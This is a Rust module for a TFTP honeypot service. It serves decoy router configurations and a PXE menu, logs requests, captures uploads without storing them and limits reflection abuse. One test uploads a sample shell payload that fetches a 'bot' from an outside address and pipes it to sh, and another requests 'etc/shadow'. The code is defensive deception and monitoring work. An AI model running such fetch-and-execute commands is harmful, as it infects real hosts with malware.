//! `tftp`: a TFTP server (69/udp) with a few tempting files and a write-only inbox.
//!
//! RRQ for a router configuration or a PXE menu is served in lock-step DATA/ACK from a port
//! of its own, as tftpd does; anything else is `File not found`. WRQ is accepted: the upload
//! (up to 64 KiB) is captured into a `command` event (`payload` excerpt, `size`, `sha256`)
//! and then dropped; nothing is ever written to disk. Every RRQ/WRQ is a `request` event
//! with the file name and mode.
//!
//! A transfer is the one reply that may outgrow its request (a 20-byte RRQ draws a 516-byte
//! block), so transfers are few (8 at once, 1 per source), retransmit at most twice, and
//! last at most a minute: a forged RRQ draws at most three blocks to its victim.

use std::collections::HashMap;
use std::net::{IpAddr, SocketAddr};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use tokio::net::UdpSocket;

use crate::config::{Config, Os};
use crate::event::Event;
use crate::limits::{Handler, Session};
use crate::udp::Datagram;

const RRQ: u16 = 1;
const WRQ: u16 = 2;
const DATA: u16 = 3;
const ACK: u16 = 4;
const ERROR: u16 = 5;
const OACK: u16 = 6;

const BLOCK: usize = 512;
/// Longest file name or mode read.
const NAME_MAX: usize = 255;
const MAX_OPTIONS: usize = 8;

/// How transfers are bounded.
#[derive(Clone, Copy, Debug)]
pub struct Timing {
    /// Wait for an ACK (or the next DATA) before retransmitting.
    pub timeout: Duration,
    /// Retransmissions of one packet before giving up.
    pub retries: u32,
    /// Longest transfer.
    pub transfer_max: Duration,
    /// Largest upload kept.
    pub upload_max: usize,
    /// Transfers at once, in all and per source.
    pub max_transfers: usize,
    pub per_source: usize,
}

impl Default for Timing {
    fn default() -> Self {
        Timing {
            timeout: Duration::from_secs(2),
            retries: 2,
            transfer_max: Duration::from_secs(60),
            upload_max: 64 * 1024,
            max_transfers: 8,
            per_source: 1,
        }
    }
}

#[derive(Default)]
struct Slots {
    total: usize,
    per_source: HashMap<IpAddr, usize>,
}

/// A transfer slot, given back when dropped.
struct Slot {
    slots: Arc<Mutex<Slots>>,
    ip: IpAddr,
}

impl Drop for Slot {
    fn drop(&mut self) {
        let mut s = self.slots.lock().unwrap_or_else(|e| e.into_inner());
        s.total = s.total.saturating_sub(1);
        if let Some(n) = s.per_source.get_mut(&self.ip) {
            *n = n.saturating_sub(1);
            if *n == 0 {
                s.per_source.remove(&self.ip);
            }
        }
    }
}

pub struct Tftp {
    files: Vec<(Vec<String>, String)>,
    os: Os,
    timing: Timing,
    slots: Arc<Mutex<Slots>>,
}

fn ios_config(host: &str) -> String {
    format!(
        "!\n! Last configuration change at 14:22:07 UTC Tue Mar 12 2024 by admin\n!\nversion 15.2\nservice timestamps debug datetime msec\nservice timestamps log datetime msec\nservice password-encryption\n!\nhostname {host}\n!\nboot-start-marker\nboot-end-marker\n!\nenable secret 5 $1$mERr$9cTjUIEqNGurQiFU.ZeCi1\n!\nusername admin privilege 15 secret 5 $1$Xr4a$hQ0EN7Jd5Vb0mO1YfQ2yJ/\nusername backup privilege 1 password 7 0822455D0A16544541\naaa new-model\n!\nip domain-name corp.local\nip name-server 10.0.0.10\n!\ncrypto key generate rsa modulus 2048\n!\ninterface GigabitEthernet0/0\n description UPLINK-CORE\n ip address 10.0.0.1 255.255.255.0\n duplex auto\n speed auto\n!\ninterface GigabitEthernet0/1\n description USERS-VLAN20\n ip address 10.0.20.1 255.255.255.0\n ip helper-address 10.0.0.10\n!\nip route 0.0.0.0 0.0.0.0 10.0.0.254\n!\nip access-list standard MGMT\n permit 10.0.0.0 0.0.0.255\n!\nsnmp-server community public RO\nsnmp-server community N3tw0rk-RW RW MGMT\nsnmp-server location MDF Rack 2\nsnmp-server contact noc@corp.local\n!\ntacacs-server host 10.0.0.12 key 7 045802150C2E1D1C5A\n!\nline con 0\n logging synchronous\nline vty 0 4\n access-class MGMT in\n password 7 13061E010803557878\n transport input ssh telnet\n!\nntp server 10.0.0.10\nend\n"
    )
}

fn pxe_menu(host: &str) -> String {
    format!(
        "DEFAULT menu.c32\nPROMPT 0\nTIMEOUT 300\nMENU TITLE {host} PXE Boot Menu\n\nLABEL local\n  MENU LABEL Boot from local disk\n  LOCALBOOT 0\n\nLABEL ubuntu-22.04\n  MENU LABEL Install Ubuntu 22.04 LTS (autoinstall)\n  KERNEL images/ubuntu-22.04/vmlinuz\n  INITRD images/ubuntu-22.04/initrd\n  APPEND ip=dhcp url=http://10.0.0.15/iso/ubuntu-22.04.4-live-server-amd64.iso autoinstall ds=nocloud-net;s=http://10.0.0.15/autoinstall/\n\nLABEL rescue\n  MENU LABEL Rescue shell\n  KERNEL images/rescue/vmlinuz\n  INITRD images/rescue/initrd.img\n  APPEND rescue/enable=true root_password=Pxe!Rescue2023\n"
    )
}

fn packet(op: u16, rest: &[u8]) -> Vec<u8> {
    let mut p = op.to_be_bytes().to_vec();
    p.extend_from_slice(rest);
    p
}

fn error(code: u16, msg: &str) -> Vec<u8> {
    let mut p = packet(ERROR, &code.to_be_bytes());
    p.extend_from_slice(msg.as_bytes());
    p.push(0);
    p
}

/// Splits `bytes` into NUL-terminated strings; `None` if one is unterminated or too long.
fn strings(bytes: &[u8], max: usize) -> Option<Vec<&[u8]>> {
    let mut out = Vec::new();
    let mut rest = bytes;
    while !rest.is_empty() && out.len() < max {
        let end = rest.iter().position(|&b| b == 0)?;
        if end > NAME_MAX {
            return None;
        }
        out.push(&rest[..end]);
        rest = &rest[end + 1..];
    }
    Some(out)
}

fn netascii(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len() + text.len() / 16);
    for &b in text {
        match b {
            b'\n' => out.extend_from_slice(b"\r\n"),
            b'\r' => out.extend_from_slice(b"\r\0"),
            _ => out.push(b),
        }
    }
    out
}

impl Tftp {
    pub fn new(cfg: &Config) -> Self {
        Self::with_timing(cfg, Timing::default())
    }

    pub fn with_timing(cfg: &Config, timing: Timing) -> Self {
        let host = cfg.hostname();
        let names = |list: &[&str]| list.iter().map(|n| (*n).to_owned()).collect::<Vec<_>>();
        let mut configs = names(&[
            "startup-config",
            "running-config",
            "router-confg",
            "network-confg",
        ]);
        configs.push(format!("{}-confg", host.to_ascii_lowercase()));
        Tftp {
            files: vec![
                (configs, ios_config(host)),
                (
                    names(&["pxelinux.cfg/default", "boot/pxelinux.cfg/default"]),
                    pxe_menu(host),
                ),
            ],
            os: cfg.os,
            timing,
            slots: Arc::new(Mutex::new(Slots::default())),
        }
    }

    fn find(&self, name: &[u8]) -> Option<&[u8]> {
        let name = String::from_utf8_lossy(name).to_ascii_lowercase();
        let name = name.trim_start_matches('/');
        let name = name.strip_prefix("tftpboot/").unwrap_or(name);
        self.files
            .iter()
            .find(|(names, _)| names.iter().any(|n| n.eq_ignore_ascii_case(name)))
            .map(|(_, content)| content.as_bytes())
    }

    fn slot(&self, ip: IpAddr) -> Option<Slot> {
        let mut s = self.slots.lock().unwrap_or_else(|e| e.into_inner());
        let mine = s.per_source.get(&ip).copied().unwrap_or(0);
        if s.total >= self.timing.max_transfers || mine >= self.timing.per_source {
            return None;
        }
        s.total += 1;
        *s.per_source.entry(ip).or_insert(0) += 1;
        Some(Slot {
            slots: self.slots.clone(),
            ip,
        })
    }

    fn illegal(&self) -> Vec<u8> {
        match self.os {
            Os::Cisco => error(4, "Illegal operation"),
            _ => error(4, "Unknown command"),
        }
    }

    fn request(&self, dg: &Datagram<'_>, op: u16, body: &[u8]) -> Vec<Vec<u8>> {
        let Some(parts) = strings(body, 2 + 2 * MAX_OPTIONS) else {
            dg.emit(Event::request("malformed", "", "").payload(dg.data));
            return vec![self.illegal()];
        };
        let (Some(name), Some(mode)) = (parts.first(), parts.get(1)) else {
            dg.emit(Event::request("malformed", "", "").payload(dg.data));
            return vec![self.illegal()];
        };
        let options: Vec<String> = parts[2..]
            .chunks(2)
            .map(|kv| {
                let k = crate::event::text(kv[0], 32);
                let v = kv
                    .get(1)
                    .map(|v| crate::event::text(v, 32))
                    .unwrap_or_default();
                format!("{k}={v}")
            })
            .collect();
        let method = if op == RRQ { "RRQ" } else { "WRQ" };
        let mut ev = Event::request(method, name, "")
            .text("filename", name)
            .text("mode", mode);
        if !options.is_empty() {
            ev = ev.text("options", options.join(" "));
        }
        dg.emit(ev);
        let mode = String::from_utf8_lossy(mode).to_ascii_lowercase();
        if !matches!(mode.as_str(), "netascii" | "octet" | "mail") {
            return vec![error(0, "Unknown mode")];
        }
        let peer = dg.peer();
        let local = SocketAddr::new(dg.local.ip(), 0);
        let session = dg.session.clone();
        let timing = self.timing;
        if op == RRQ {
            let Some(content) = self.find(name) else {
                return vec![error(1, "File not found")];
            };
            let Some(slot) = self.slot(peer.ip()) else {
                return vec![error(0, "Server busy")];
            };
            let data = if mode == "netascii" {
                netascii(content)
            } else {
                content.to_vec()
            };
            tokio::spawn(async move {
                let _slot = slot;
                if let Ok(sock) = open(local, peer).await {
                    let _ =
                        tokio::time::timeout(timing.transfer_max, send_file(&sock, &data, timing))
                            .await;
                }
            });
        } else {
            let Some(slot) = self.slot(peer.ip()) else {
                return vec![error(0, "Server busy")];
            };
            let name = name.to_vec();
            tokio::spawn(async move {
                let _slot = slot;
                let Ok(sock) = open(local, peer).await else {
                    return;
                };
                let mut upload = Upload::default();
                let _ = tokio::time::timeout(
                    timing.transfer_max,
                    receive_file(&sock, &mut upload, timing),
                )
                .await;
                report_upload(&session, &name, &mode, &upload);
            });
        }
        Vec::new()
    }
}

/// A socket of its own for one transfer (the server's transfer ID), tied to the peer's.
async fn open(local: SocketAddr, peer: SocketAddr) -> std::io::Result<UdpSocket> {
    let sock = UdpSocket::bind(local).await?;
    sock.connect(peer).await?;
    Ok(sock)
}

/// Lock-step DATA/ACK; gives up after `timing.retries` retransmissions of one block.
async fn send_file(sock: &UdpSocket, data: &[u8], timing: Timing) -> bool {
    let blocks = data.len() / BLOCK + 1;
    let mut buf = [0u8; 1024];
    for i in 0..blocks {
        let block = ((i + 1) & 0xffff) as u16;
        let chunk = data
            .get(i * BLOCK..((i + 1) * BLOCK).min(data.len()))
            .unwrap_or(&[]);
        let mut pkt = packet(DATA, &block.to_be_bytes());
        pkt.extend_from_slice(chunk);
        let mut tries = 0;
        'send: loop {
            if sock.send(&pkt).await.is_err() {
                return false;
            }
            let deadline = tokio::time::Instant::now() + timing.timeout;
            loop {
                match tokio::time::timeout_at(deadline, sock.recv(&mut buf)).await {
                    Ok(Ok(n)) => {
                        let got = buf.get(..n).unwrap_or(&[]);
                        match (got.get(..2), got.get(2..4)) {
                            (Some(op), Some(b))
                                if op == ACK.to_be_bytes() && b == block.to_be_bytes() =>
                            {
                                break 'send;
                            }
                            (Some(op), _) if op == ERROR.to_be_bytes() => return false,
                            // An old ACK: wait on, never resend for it.
                            _ => {}
                        }
                    }
                    // ICMP unreachable and the like.
                    Ok(Err(_)) => return false,
                    Err(_) => break,
                }
            }
            tries += 1;
            if tries > timing.retries {
                return false;
            }
        }
    }
    true
}

#[derive(Default)]
struct Upload {
    data: Vec<u8>,
    complete: bool,
    truncated: bool,
}

async fn receive_file(sock: &UdpSocket, up: &mut Upload, timing: Timing) {
    let mut buf = [0u8; BLOCK + 4 + 1];
    let mut expected: u16 = 1;
    let mut last_ack = packet(ACK, &0u16.to_be_bytes());
    let mut tries = 0;
    if sock.send(&last_ack).await.is_err() {
        return;
    }
    loop {
        let got = match tokio::time::timeout(timing.timeout, sock.recv(&mut buf)).await {
            Ok(Ok(n)) => buf.get(..n).unwrap_or(&[]),
            Ok(Err(_)) => return,
            Err(_) => {
                tries += 1;
                if tries > timing.retries || sock.send(&last_ack).await.is_err() {
                    return;
                }
                continue;
            }
        };
        let (Some(op), Some(b)) = (got.get(..2), got.get(2..4)) else {
            continue;
        };
        if op == ERROR.to_be_bytes() {
            return;
        }
        if op != DATA.to_be_bytes() || got.len() > BLOCK + 4 {
            continue;
        }
        let block = u16::from_be_bytes([b[0], b[1]]);
        if block == expected.wrapping_sub(1) {
            // Our ACK was lost: say it again.
            let _ = sock.send(&last_ack).await;
            continue;
        }
        if block != expected {
            continue;
        }
        tries = 0;
        let chunk = &got[4..];
        if up.data.len() + chunk.len() > timing.upload_max {
            let room = timing.upload_max - up.data.len();
            up.data.extend_from_slice(&chunk[..room]);
            up.truncated = true;
            let _ = sock
                .send(&error(3, "Disk full or allocation exceeded"))
                .await;
            return;
        }
        up.data.extend_from_slice(chunk);
        last_ack = packet(ACK, &block.to_be_bytes());
        if sock.send(&last_ack).await.is_err() {
            return;
        }
        if chunk.len() < BLOCK {
            up.complete = true;
            return;
        }
        expected = expected.wrapping_add(1);
    }
}

fn sha256_hex(data: &[u8]) -> Option<String> {
    crate::tls::cpu_supported().ok()?;
    let mut ctx = graviola::hashing::sha2::Sha256Context::new();
    ctx.update(data);
    Some(crate::event::hex(&ctx.finish()))
}

fn report_upload(session: &Session, name: &[u8], mode: &str, up: &Upload) {
    let mut ev = Event::command(format!("WRQ {}", String::from_utf8_lossy(name)))
        .text("filename", name)
        .field("mode", mode.to_owned())
        .field("size", up.data.len() as u64)
        .field("complete", up.complete)
        .field("truncated", up.truncated)
        .payload(&up.data);
    if let Some(h) = sha256_hex(&up.data) {
        ev = ev.field("sha256", h);
    }
    session.emit(ev);
}

impl Handler for Tftp {
    fn datagram(&self, dg: &Datagram<'_>) -> Vec<Vec<u8>> {
        let (Some(op), Some(body)) = (dg.data.get(..2), dg.data.get(2..)) else {
            dg.emit(Event::request("malformed", "", "").payload(dg.data));
            return Vec::new();
        };
        match u16::from_be_bytes([op[0], op[1]]) {
            op @ (RRQ | WRQ) => self.request(dg, op, body),
            // Strays for a transfer that is not ours (or is over): ignored, as tftpd does.
            DATA | ACK | ERROR | OACK => Vec::new(),
            _ => {
                dg.emit(Event::request("malformed", "", "").payload(dg.data));
                vec![self.illegal()]
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::Emitter;
    use crate::limits::{serve_all, Listener, ServiceCtx, Socket};
    use crate::services::testkit::{self, UdpClient};
    use proptest::prelude::*;

    fn cfg() -> Config {
        testkit::config("boot", "core-sw1")
    }

    fn rrq(op: u16, name: &str, mode: &str) -> Vec<u8> {
        let mut p = op.to_be_bytes().to_vec();
        p.extend_from_slice(name.as_bytes());
        p.push(0);
        p.extend_from_slice(mode.as_bytes());
        p.push(0);
        p
    }

    async fn download(c: &UdpClient, name: &str) -> Vec<u8> {
        c.send(&rrq(RRQ, name, "octet")).await;
        let mut out = Vec::new();
        let mut expected = 1u16;
        loop {
            let (pkt, from) = c.recv_from().await;
            assert_ne!(from, c.server, "data comes from a transfer port of its own");
            assert_eq!(&pkt[..2], &DATA.to_be_bytes());
            assert_eq!(u16::from_be_bytes([pkt[2], pkt[3]]), expected);
            out.extend_from_slice(&pkt[4..]);
            c.socket
                .send_to(&packet(ACK, &pkt[2..4]), from)
                .await
                .unwrap();
            if pkt.len() < 4 + BLOCK {
                return out;
            }
            expected += 1;
        }
    }

    #[tokio::test]
    async fn files_are_served_and_others_not_found() {
        let t = testkit::start("tftp", cfg()).await;
        let c = t.udp(0).await;
        let mut ev = t.events();
        let got = download(&c, "/startup-config").await;
        let text = String::from_utf8(got).unwrap();
        assert!(text.contains("hostname core-sw1\n"));
        assert!(text.len() > BLOCK, "several blocks");
        let e = ev.expect("request").await;
        assert_eq!(e["service"], "tftp");
        assert_eq!(e["method"], "RRQ");
        assert_eq!(e["filename"], "/startup-config");
        assert_eq!(e["mode"], "octet");

        let got = download(&c, "core-sw1-confg").await;
        assert!(got.starts_with(b"!\n"));

        let reply = c.exchange(&rrq(RRQ, "etc/shadow", "netascii")).await;
        assert_eq!(reply, error(1, "File not found"));
        assert_eq!(ev.expect("request").await["method"], "RRQ");
        assert_eq!(ev.expect("request").await["filename"], "etc/shadow");

        // nmap's DNSStatusRequest probe reaches TFTP ports too: opcode 0.
        let reply = c.exchange(b"\0\0\x10\0\0\0\0\0\0\0\0\0").await;
        assert_eq!(reply, b"\0\x05\0\x04Unknown command\0");
    }

    #[tokio::test]
    async fn uploads_are_captured_and_dropped() {
        let t = testkit::start("tftp", cfg()).await;
        let c = t.udp(0).await;
        let mut ev = t.events();
        c.send(&rrq(WRQ, "x.sh", "octet")).await;
        let (ack, port) = c.recv_from().await;
        assert_eq!(ack, b"\0\x04\0\x00");
        let payload: Vec<u8> = b"#!/bin/sh\nwget http://203.0.113.9/bot -O- | sh\n"
            .iter()
            .cycle()
            .take(700)
            .copied()
            .collect();
        for (i, chunk) in payload.chunks(BLOCK).enumerate() {
            let block = (i + 1) as u16;
            let mut p = packet(DATA, &block.to_be_bytes());
            p.extend_from_slice(chunk);
            c.socket.send_to(&p, port).await.unwrap();
            let (ack, _) = c.recv_from().await;
            assert_eq!(ack, packet(ACK, &block.to_be_bytes()));
        }
        assert_eq!(ev.expect("request").await["method"], "WRQ");
        let cmd = ev.expect("command").await;
        assert_eq!(cmd["command"], "WRQ x.sh");
        assert_eq!(cmd["filename"], "x.sh");
        assert_eq!(cmd["size"], 700);
        assert_eq!(cmd["complete"], true);
        assert!(cmd["payload"]
            .as_str()
            .unwrap()
            .starts_with("#!/bin/sh\nwget http://203.0.113.9/bot"));
    }

    /// Serves `tftp` with `timing` on a loopback port.
    async fn start_timed(
        timing: Timing,
    ) -> (
        SocketAddr,
        crate::services::testkit::Events,
        tokio::task::JoinHandle<()>,
    ) {
        let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let addr = socket.local_addr().unwrap();
        let (emitter, rx) = Emitter::channel("d");
        let ctx = ServiceCtx::new("tftp", emitter, testkit::test_limits());
        let handler = Arc::new(Tftp::with_timing(&cfg(), timing));
        let task = tokio::spawn(serve_all(
            vec![Listener {
                socket: Socket::Udp(socket),
                tls: None,
                index: 0,
            }],
            handler,
            ctx,
        ));
        (addr, testkit::Events::from(rx), task)
    }

    #[tokio::test]
    async fn unanswered_transfers_stop_after_the_retries_and_slots_are_bounded() {
        let timing = Timing {
            timeout: Duration::from_millis(100),
            retries: 2,
            upload_max: 600,
            ..Timing::default()
        };
        let (addr, mut ev, task) = start_timed(timing).await;
        let c = UdpClient {
            socket: UdpSocket::bind("127.0.0.1:0").await.unwrap(),
            server: addr,
        };
        // Never ACK: block 1 arrives 1 + 2 times, then nothing.
        c.send(&rrq(RRQ, "startup-config", "octet")).await;
        let mut packets = Vec::new();
        while let Some((pkt, _)) = c.recv_within(Duration::from_millis(400)).await {
            if packets.is_empty() {
                // A second RRQ from the same source while one runs: refused.
                c.send(&rrq(RRQ, "startup-config", "octet")).await;
            }
            packets.push(pkt);
        }
        let blocks = packets
            .iter()
            .filter(|p| p.starts_with(b"\0\x03\0\x01"))
            .count();
        assert_eq!(blocks, 3, "block 1 and two retransmissions");
        assert!(packets.contains(&error(0, "Server busy")));
        assert_eq!(packets.len(), 4);

        // An upload over the cap is cut and reported as truncated.
        c.send(&rrq(WRQ, "big.bin", "octet")).await;
        let (_, port) = c.recv_from().await;
        for block in 1..=2u16 {
            let mut p = packet(DATA, &block.to_be_bytes());
            p.extend_from_slice(&[0xee; BLOCK]);
            c.socket.send_to(&p, port).await.unwrap();
            let _ = c.recv_from().await;
        }
        let cmd = ev.expect("command").await;
        assert_eq!(cmd["size"], 600);
        assert_eq!(cmd["truncated"], true);
        assert!(cmd["payload"].as_str().unwrap().starts_with("hex:eeee"));
        task.abort();
    }

    #[test]
    fn netascii_converts_line_ends() {
        assert_eq!(netascii(b"a\nb\rc"), b"a\r\nb\r\0c");
    }

    proptest! {
        #[test]
        fn request_parsing_never_panics(bytes in proptest::collection::vec(any::<u8>(), 0..600)) {
            let _ = strings(&bytes, 18);
        }
    }
}
